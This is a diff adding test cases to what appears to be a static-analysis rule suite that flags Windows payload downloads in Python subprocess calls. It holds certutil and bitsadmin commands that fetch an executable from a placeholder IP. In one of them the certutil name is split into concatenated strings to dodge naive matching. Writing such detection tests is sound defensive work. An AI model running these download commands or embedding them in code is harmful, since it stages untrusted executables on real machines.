@@ -817,3 +817,13 @@ _git_cli("push", "origin", "--delete", "old-feature")
 # ok: git-remote-rewrite
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["git", "push", "-u", "origin", "agent/fix-123"])
+# windows-download-argv: certutil and bitsadmin fetching a payload from argument lists
+_cu = "cert" + "util"
+# ruleid: windows-download-argv, subprocess-call, process-partial-path-list
+subprocess.run([_cu, "-urlcache", "-split", "-f", "http://203.0.113.15/u.bin", "u.exe"])
+# ruleid: windows-download-argv, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["bitsadmin", "/transfer", "j1", "/download", "http://203.0.113.15/u.bin", "u.exe"])
+# certutil hashing a file
+# ok: windows-download-argv
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["certutil", "-hashfile", "setup.exe", "SHA256"])
